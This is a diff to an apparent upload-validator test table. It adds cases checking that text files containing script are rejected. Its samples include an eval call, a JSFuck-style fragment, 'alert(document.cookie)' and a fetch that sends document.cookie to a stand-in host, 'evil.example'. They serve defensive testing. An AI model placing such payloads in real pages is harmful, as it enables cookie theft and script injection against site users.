@@ -73,7 +73,9 @@ CASES = [  # (file name, bytes, the code, or None when it is published)
     ("a.webp", b"RIFF\x10\x00\x00\x00WEBPVP8 ", None),
     ("a.webp", b"RIFF\x10\x00\x00\x00AVI LIST", "handout-content"),
     # text is served as text: not markup, not script
-    ("a.txt", b"Review the lesson (10 minutes).\nUse the form(s) and prompt(s) provided; e.g. notes.\n", None),
+    ("a.txt", b"Review the lesson (10 minutes).\nUse the form(s) and prompt(s) provided; e.g. notes.\n"
+              b"Under section 175(2)(a) of the Act, stay alert, and do this. Then the document.\n", None),
+    ("a.txt", b"(0, eval)('x')\n", "handout-content"),
     ("a.txt", b"alert(document.cookie)\n", "handout-content"),
     ("a.txt", b"fetch\n('//evil.example/?' + document.cookie)\n", "handout-content"),
     ("a.csv", b"[][(![]+[])[+[]]]\n", "handout-content"),
